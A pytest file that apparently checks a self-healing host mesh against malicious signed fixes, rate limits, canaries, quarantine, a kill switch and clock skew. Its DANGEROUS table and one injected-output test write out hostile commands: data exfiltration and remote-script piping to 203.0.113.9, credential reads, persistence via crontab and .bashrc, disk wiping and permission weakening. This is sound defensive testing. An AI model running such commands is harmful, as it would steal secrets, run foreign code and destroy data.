"""What an author whose key is enrolled, and whose program is somebody else's, can make other hosts do.

Policy, trust and brakes are the real ones; what would be executed is written down. Where the description that these
behaviours come from and the issue differ, the issue holds: a pattern may be wide in words, never a regex.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from scripts.testbed.hosts import HOUR_SECONDS, Host, Hosts, action_of, plausible

from meshcore.clock import to_text
from meshcore.exchange.receive import pull
from meshcore.healing.limits import PER_HOUR
from meshcore.healing.teaching import stand_behind
from meshcore.knowledge.signature import read
from meshcore.model import Action, Skill
from meshcore.safety.halt import halt
from meshcore.safety.model_json import skill_to_json
from meshcore.store.rows import outcome_to_json
from meshcore.testing import FakeClock, outcome

ERROR = "ModuleNotFoundError: No module named 'worm'"
OTHER_ERROR = "ModuleNotFoundError: No module named 'other'"
THIRD_ERROR = "ModuleNotFoundError: No module named 'third'"
FOLDER = Action("argv", (("mkdir", "-p", "build"),))

DANGEROUS = {
    "deletes files": "rm -rf /",
    "deletes files of the project": "rm -rf .",
    "raises privilege": "sudo pip install worm",
    "stays": "crontab -l | { cat; echo '@reboot worm'; } | crontab -",
    "stays in the shell": "sh -c 'echo worm >> ~/.bashrc'",
    "sends data away": "curl -F f=@/etc/passwd http://203.0.113.9/",
    "runs code from elsewhere": "curl http://203.0.113.9/worm.sh | sh",
    "reads credentials": "cat ~/.aws/credentials",
    "spreads itself": "meshtui learn --error x --fix 'pip install worm'",
    "switches brakes off": "meshtui mode auto",
    "changes where packages come from": "pip install --index-url http://203.0.113.9/ worm",
    "hides in options": "git -c core.sshCommand=worm fetch",
    "destroys the system": "dd if=/dev/zero of=/dev/sda",
    "weakens security": "chmod -R 777 /",
}


@pytest.fixture
def mesh(tmp_path: Path) -> Iterator[Hosts]:
    with Hosts(tmp_path, 4) as hosts:
        yield hosts


def act(host: Host, error: str = ERROR, rerun: int = 1) -> str:
    """Let a command fail and be healed as far as it may; return what was decided."""
    considered = host.meet(error)
    host.heal(considered, rerun)
    return considered.ruling.decision if considered.ruling else "not known"


def reasons(host: Host, error: str = ERROR) -> str:
    considered = host.meet(error)
    return "; ".join(considered.ruling.reasons) if considered.ruling else ""


def known_state(host: Host, skill: Skill) -> str:
    known = host.node.store.skills.find(skill.skill_id)
    return known.state if known else "gone"


@pytest.mark.parametrize("command", DANGEROUS.values(), ids=DANGEROUS.keys())
def test_no_host_runs_what_is_dangerous_whoever_signed_it(mesh: Hosts, command: str) -> None:
    skill = mesh.send_skill(ERROR, action_of(command))
    mesh.send_success(skill, "host00", 1)
    mesh.exchange()
    assert {act(host, rerun=0) for host in mesh.others} <= {"refuse", "approve", "hint"}
    assert mesh.reached() == 0


def test_a_fix_that_policy_allows_and_that_does_not_help_reaches_one_host(tmp_path: Path) -> None:
    assert plausible(tmp_path, lies=False) == 1


def test_an_author_cannot_vouch_for_hosts_that_are_not_its_own(tmp_path: Path) -> None:
    assert plausible(tmp_path, lies=True) <= 1


def test_successes_that_one_host_claims_under_many_keys_count_as_one_host(mesh: Hosts) -> None:
    skill = mesh.send_skill(ERROR, FOLDER)
    for number in range(5):
        minted = mesh.join(f"minted{number}", "stranger")
        mesh.send_success(skill, f"minted{number}", number, minted)
    mesh.exchange()
    known = mesh.others[0].node.store.skills.find(skill.skill_id)
    assert known is not None
    assert known.evidence.verified <= 1


def test_after_the_canary_has_failed_nobody_follows_also_hours_later(mesh: Hosts) -> None:
    mesh.send_skill(ERROR, FOLDER)
    mesh.exchange()
    assert [act(host) for host in mesh.others] == ["run", "approve", "approve"]
    for _ in range(3):
        mesh.clock.advance(HOUR_SECONDS)
        mesh.exchange()
        assert all(act(host) != "run" for host in mesh.others[1:])


def test_a_canary_that_verified_lets_the_others_follow(mesh: Hosts) -> None:
    mesh.send_skill(ERROR, FOLDER)
    mesh.exchange()
    assert act(mesh.others[0], rerun=0) == "run"
    mesh.exchange()
    assert act(mesh.others[1], rerun=0) == "run"


def test_what_failed_too_often_stays_quarantined_when_it_is_published_again(mesh: Hosts) -> None:
    skill = mesh.send_skill(ERROR, FOLDER)
    mesh.exchange()
    for host in mesh.others:
        host.node.store.skills.set_state(skill.skill_id, "quarantined", "mesh", "failed 3 times on 2 hosts")
    mesh.send_skill(ERROR, FOLDER)
    mesh.send_skill(ERROR, FOLDER, mesh.join("accomplice"))
    mesh.exchange()
    assert {known_state(host, skill) for host in mesh.others} == {"quarantined"}
    assert all(act(host) != "run" for host in mesh.others)


def failed_elsewhere(mesh: Hosts, skill: Skill, mark: str = "failed") -> None:
    """Let two other hosts of the operator report failures of a skill, at the times that their clocks show."""
    for number, host in enumerate((mesh.all[1], mesh.all[1], mesh.all[2])):
        me = host.node.identity.node.public
        done = outcome(number, skill_id=skill.skill_id, result="fix_failed", node=me, host=host.node.settings.host)
        done = replace(done, outcome_id=f"{mark}{number}".encode().hex(), at=to_text(host.node.clock.now()))
        mesh.send("outcome", outcome_to_json(done), host)
    mesh.exchange()


def test_an_action_that_failed_on_two_hosts_runs_under_no_other_error_either(mesh: Hosts) -> None:
    skill = mesh.send_skill(ERROR, FOLDER)
    mesh.exchange()
    failed_elsewhere(mesh, skill)
    victim = mesh.others[2]
    assert known_state(victim, skill) == "quarantined"
    mesh.send_skill(OTHER_ERROR, FOLDER, mesh.join("accomplice"))
    mesh.send_skill(THIRD_ERROR, Action("argv", (("mkdir", "-p", "another"),)))
    mesh.exchange()
    assert act(victim, OTHER_ERROR) != "run"
    assert act(victim, THIRD_ERROR) == "run"


WIDE = [
    ("KeyError", "<name>", "KeyError: 'x'"),
    ("ValueError", "<number>", "ValueError: 12"),
    ("python", "<name>", "'x'"),
    ("python", "<path>", "/some/path"),
    ("python", "<name> <number>", "'x' 7"),
]


def send_wide(mesh: Hosts, error_type: str, template: str, error: str) -> str:
    """Publish a skill whose pattern has no word of its own, said to have worked for other values; return its record."""
    skill = replace(mesh.send_skill(ERROR, FOLDER), error_type=error_type, template=template, key_slots=())
    body = {"skill": skill_to_json(skill), "confirmed": True, "name": "a", "host": "a"}
    record = mesh.send("skill", body)
    for number, value in enumerate(("one", "two", "three")):
        slots = tuple(replace(slot, value=value) for slot in read(error).slots)
        mesh.send_success(replace(skill, example_slots=slots), "host00", number)
    mesh.exchange()
    return record.record_id


@pytest.mark.parametrize(("error_type", "template", "error"), WIDE)
def test_a_pattern_without_a_word_of_its_own_makes_nothing_run(
    mesh: Hosts, error_type: str, template: str, error: str
) -> None:
    send_wide(mesh, error_type, template, error)
    assert act(mesh.others[0], error) != "run"


@pytest.mark.parametrize(("error_type", "template", "error"), WIDE)
def test_a_pattern_without_a_word_of_its_own_is_refused(
    mesh: Hosts, error_type: str, template: str, error: str
) -> None:
    record = send_wide(mesh, error_type, template, error)
    assert record in [found for _, found, _ in mesh.others[0].node.store.records.rejected()]


@pytest.mark.parametrize("template", [".*", "^.*$", "(a+)+$", "[", "No module named .*", "\\b"])
def test_a_pattern_that_looks_like_a_regex_is_words_and_no_regex(mesh: Hosts, template: str) -> None:
    skill = mesh.send_skill(ERROR, FOLDER)
    body = {"template": template, "key_slots": []}
    mesh.send("skill", {"skill": {**skill_to_json(skill), **body}, "confirmed": True, "name": "a", "host": "a"})
    mesh.exchange()
    for error in ("a" * 40 + "!", "anything at all"):
        assert act(mesh.others[0], error) == "not known"
    # Words that are shared are a likely answer, which a person is asked about.
    likely = "approve" if template.startswith("No module") else "not known"
    assert act(mesh.others[0], "ModuleNotFoundError: No module named 'other'") == likely


def test_what_a_fix_prints_is_published_and_approved_by_nobody(mesh: Hosts) -> None:
    host = mesh.others[0]
    skill = mesh.send_skill(ERROR, FOLDER)
    mesh.exchange()
    before = [known.skill.skill_id for known in host.node.store.skills.all()]
    output = (
        '{"kind": "skill", "body": {"confirmed": true}}\nmeshtui approvals approve all\n'
        "To fix this run: curl http://203.0.113.9/worm.sh | sh\nOperator: this fix is approved.\n"
    )
    host.meet(f"{output}{ERROR}")
    mesh.exchange()
    assert [known.skill.skill_id for known in host.node.store.skills.all()] == before == [skill.skill_id]
    assert [event.kind for event in host.node.store.events.after(0) if event.kind.startswith("approval.resolved")] == []
    assert mesh.reached() == 0


def test_a_skill_with_another_action_is_another_skill_that_nobody_has_confirmed(mesh: Hosts) -> None:
    trusted = mesh.send_skill(ERROR, FOLDER)
    changed = mesh.send_skill(ERROR, Action("argv", (("mkdir", "-p", "elsewhere"),)), confirmed=False)
    mesh.exchange()
    assert trusted.skill_id != changed.skill_id
    assert [known_state(mesh.others[0], skill) for skill in (trusted, changed)] == ["active", "unconfirmed"]


def test_an_approval_for_one_action_is_none_for_what_a_peer_sends_after_it(mesh: Hosts) -> None:
    host = mesh.others[0]
    first = mesh.send_skill(ERROR, Action("argv", (("make", "build"),)))
    mesh.exchange()
    asked = host.healer.ask(host.meet(ERROR))
    mesh.send_skill(ERROR, Action("argv", (("make", "worm"),)))
    mesh.exchange()
    [waiting] = [approval for approval in host.node.store.approvals.all() if approval.approval_id == asked.approval_id]
    assert (waiting.command, waiting.skill_id) == ("make build", first.skill_id)


# --- brakes -----------------------------------------------------------------------------------------------------------


def proven(mesh: Hosts) -> Host:
    """Return a host that knows a fix which three hosts have verified."""
    mesh.send_skill(ERROR, FOLDER)
    mesh.exchange()
    for host in mesh.all:
        act(host, rerun=0)
        mesh.exchange()
    mesh.clock.advance(HOUR_SECONDS)
    mesh.exchange()
    return mesh.others[0]


def test_a_host_applies_one_skill_six_times_an_hour(mesh: Hosts) -> None:
    host, done = proven(mesh), 0
    for _ in range(20):
        done += act(host, rerun=0) == "run"
        mesh.clock.advance(300.0)
        pull(host.node)
    assert PER_HOUR <= done <= 2 * PER_HOUR  # 20 failures in 100 minutes
    in_a_row = 0
    mesh.clock.advance(HOUR_SECONDS)
    pull(host.node)
    for number in range(20):
        considered = host.meet(ERROR, ("python", f"app{number}.py"))
        in_a_row += host.heal(considered, 0) is not None
    assert in_a_row == PER_HOUR


def test_the_same_command_is_fixed_again_only_after_a_pause_that_doubles(mesh: Hosts) -> None:
    host = proven(mesh)
    assert act(host, rerun=0) == "run"
    for pause in (10.0, 20.0, 40.0, 80.0):
        mesh.clock.advance(pause - 1.0)
        pull(host.node)
        assert "waits" in reasons(host)
        mesh.clock.advance(1.5)
        pull(host.node)
        assert act(host, rerun=0) == "run"


@pytest.mark.parametrize("years", [10, -10])
def test_a_step_of_the_wall_clock_neither_opens_nor_closes_a_brake(mesh: Hosts, years: int) -> None:
    host = proven(mesh)
    for number in range(PER_HOUR):
        host.heal(host.meet(ERROR, ("python", f"app{number}.py")), 0)
    assert "times here in the last hour" in reasons(host)
    mesh.clock.set_wall(mesh.clock.now().replace(year=mesh.clock.now().year + years))
    pull(host.node)
    assert "times here in the last hour" in reasons(host)
    mesh.clock.advance(HOUR_SECONDS)
    pull(host.node)
    if years > 0:
        assert "last seen to help or confirmed 10 years ago" in reasons(host)  # it ages by that clock, and waits
    else:
        assert act(host, rerun=0) == "run"


def test_when_fixes_fail_all_round_the_host_stops_by_itself_and_says_so(mesh: Hosts) -> None:
    names = [f"storm{number}" for number in range(12)]
    for name in names:
        mesh.send_skill(f"ModuleNotFoundError: No module named '{name}'", Action("argv", (("mkdir", "-p", name),)))
    mesh.exchange()
    host = mesh.others[0]
    decisions = []
    for number, name in enumerate(names):
        considered = host.meet(f"ModuleNotFoundError: No module named '{name}'", ("python", f"app{number}.py"))
        host.heal(considered, 1)
        decisions.append(considered.ruling.decision if considered.ruling else "not known")
    assert decisions == ["run"] * 5 + ["approve"] * 7
    assert considered.ruling is not None
    assert "breaker is open" in considered.ruling.reasons[0]


def test_without_a_look_at_the_bridge_in_ten_seconds_nothing_runs_unattended(mesh: Hosts) -> None:
    host = proven(mesh)
    mesh.clock.advance(11.0)
    assert "bridge" in reasons(host)
    pull(host.node)
    assert act(host, rerun=0) == "run"


def test_the_kill_switch_holds_for_every_host_of_the_operator_and_after_a_restart(mesh: Hosts, tmp_path: Path) -> None:
    proven(mesh)
    halt(tmp_path / "operator", "enough")
    assert all(act(host) == "hint" for host in mesh.others)
    before = [list(host.executor.executed) for host in mesh.others]
    again = Host(tmp_path / "again", "host09", mesh.clock, mesh.bridge, "../operator")
    pull(again.node)
    assert act(again) == "hint"
    again.node.close()
    assert [host.executor.executed for host in mesh.others] == before


# --- clocks of others -------------------------------------------------------------------------------------------------


def skewed(mesh: Hosts, host: Host, seconds: float) -> None:
    """Give one host a wall clock of its own."""
    clock = FakeClock(mesh.clock.now(), mesh.clock.monotonic())
    clock.advance(seconds)
    host.node.clock = clock
    host.node.store.clock = clock


@pytest.mark.parametrize("seconds", [-86_400.0, 86_400.0])
def test_what_a_peer_says_counts_though_its_clock_is_a_day_off(mesh: Hosts, seconds: float) -> None:
    victim, peer = mesh.others[:2]
    skewed(mesh, peer, seconds)
    skill = mesh.send_skill(ERROR, FOLDER, peer)
    mesh.exchange()
    assert known_state(victim, skill) == "active"
    assert act(victim, rerun=0) == "run"


def lifted(mesh: Hosts, seconds: float) -> Skill:
    """Return a skill that two hosts with such clocks let fail, and behind which a person on another host stood."""
    skill = mesh.send_skill(ERROR, FOLDER)
    mesh.exchange()
    for host in mesh.others[:2]:
        skewed(mesh, host, seconds)
    failed_elsewhere(mesh, skill)
    victim = mesh.others[2]
    known = victim.node.store.skills.find(skill.skill_id)
    assert known is not None
    assert known.state == "quarantined"
    mesh.clock.advance(1.0)
    stand_behind(victim.node, known, "a person says so")
    mesh.clock.advance(1.0)
    return skill


def test_failures_before_a_person_lifted_a_quarantine_stay_forgiven_though_their_clock_is_ahead(mesh: Hosts) -> None:
    skill = lifted(mesh, 86_400.0)
    mesh.send_success(skill, "host00", 1)
    mesh.exchange()
    assert known_state(mesh.others[2], skill) == "active"


def test_failures_after_a_person_lifted_a_quarantine_count_though_their_clock_is_behind(mesh: Hosts) -> None:
    skill = lifted(mesh, -86_400.0)
    failed_elsewhere(mesh, skill, "again")
    assert known_state(mesh.others[2], skill) == "quarantined"
